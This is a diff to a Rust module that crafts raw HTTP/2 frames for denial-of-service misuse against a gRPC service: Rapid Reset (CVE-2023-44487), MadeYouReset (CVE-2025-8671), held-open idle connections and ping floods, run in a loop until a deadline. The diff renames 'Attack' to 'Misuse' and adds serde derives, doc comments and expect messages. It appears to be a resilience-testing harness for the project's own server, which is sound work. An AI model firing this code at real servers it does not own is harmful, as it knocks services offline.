@@ -1,15 +1,16 @@
-//! Kinds of misuse, written as bytes: no library of a client would send them.
+//! Kinds of misuse of the transport, written as bytes: no library of a client would send them.
 
 use std::ops::AddAssign;
 use std::time::{Duration, Instant};
 
+use serde::{Deserialize, Serialize};
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use tokio::net::TcpStream;
 use tokio::time::{sleep, timeout};
 
 /// A kind of misuse.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
-pub enum Attack {
+pub enum Misuse {
     /// Calls that are reset at once (CVE-2023-44487).
     RapidReset,
     /// Calls that the server is made to reset: a window grows by nothing (CVE-2025-8671).
@@ -31,9 +32,11 @@ pub enum Attack {
 }
 
 /// What was sent, in bursts, and how many connections the server ended.
-#[derive(Clone, Copy, Debug, Default)]
+#[derive(Clone, Copy, Debug, Default, Serialize, Deserialize)]
 pub struct Harm {
+    /// Bursts.
     pub sent: usize,
+    /// Connections.
     pub ended: usize,
 }
 
@@ -56,7 +59,8 @@ const END_HEADERS: u8 = 4;
 /// Whoever takes no bytes for so long has been left standing.
 const STUCK: Duration = Duration::from_secs(1);
 
-impl Attack {
+impl Misuse {
+    /// Each of them.
     pub const ALL: &'static [Self] = &[
         Self::RapidReset,
         Self::MadeYouReset,
@@ -126,12 +130,15 @@ impl Attack {
 }
 
 /// Does it until then, over one connection after the other.
-pub async fn wage(attack: Attack, address: String, until: Instant) -> Harm {
+///
+/// # Panics
+/// Never: what it writes is short.
+pub async fn misuse(kind: Misuse, address: String, until: Instant) -> Harm {
     let mut harm = Harm::default();
     let mut held = Vec::new();
     while Instant::now() < until {
         let Ok(Ok(mut stream)) = timeout(STUCK, TcpStream::connect(&address)).await else { continue };
-        if attack == Attack::Silence {
+        if kind == Misuse::Silence {
             harm.sent += 1;
             held.push(stream);
             sleep(Duration::from_millis(50)).await;
@@ -142,14 +149,14 @@ pub async fn wage(attack: Attack, address: String, until: Instant) -> Harm {
             continue;
         }
         let (mut answers, mut calls) = stream.into_split();
-        let reader = (attack != Attack::Pings).then(|| {
+        let reader = (kind != Misuse::Pings).then(|| {
             tokio::spawn(async move {
                 let mut sink = vec![0; 64 * 1_024];
                 while answers.read(&mut sink).await.is_ok_and(|read| read > 0) {}
             })
         });
         for n in 0.. {
-            let Some(burst) = attack.burst(n).filter(|_| Instant::now() < until) else { break };
+            let Some(burst) = kind.burst(n).filter(|_| Instant::now() < until) else { break };
             match timeout(STUCK, calls.write_all(&burst)).await {
                 Ok(Ok(())) => harm.sent += 1,
                 Ok(Err(_)) => {
@@ -160,7 +167,7 @@ pub async fn wage(attack: Attack, address: String, until: Instant) -> Harm {
                 Err(_) if Instant::now() >= until => break,
                 Err(_) => {}
             }
-            sleep(attack.pause()).await;
+            sleep(kind.pause()).await;
         }
         if let Some(reader) = reader {
             reader.abort();
@@ -170,20 +177,20 @@ pub async fn wage(attack: Attack, address: String, until: Instant) -> Harm {
 }
 
 fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
+    let length = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
     [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
 }
 
 /// A header that is in no table.
 fn field(name: &str, value: &str) -> Vec<u8> {
-    let text = |text: &str| [&[u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
+    let text = |text: &str| [&[u8::try_from(text.len()).expect("a field is short")], text.as_bytes()].concat();
     [vec![0], text(name), text(value)].concat()
 }
 
 /// The headers of a call: POST, http, the path, the authority, and what gRPC asks for.
 fn headers() -> Vec<u8> {
     let path = b"/sne.v1.RegistrationService/GetDemand";
-    let path = [&[0x04, u8::try_from(path.len()).unwrap()], path.as_slice()].concat();
+    let path = [&[0x04, u8::try_from(path.len()).expect("the path is short")], path.as_slice()].concat();
     let authority = [&[0x01, 3], b"sne".as_slice()].concat();
     [vec![0x83, 0x86], path, authority, field("content-type", "application/grpc"), field("te", "trailers")].concat()
 }
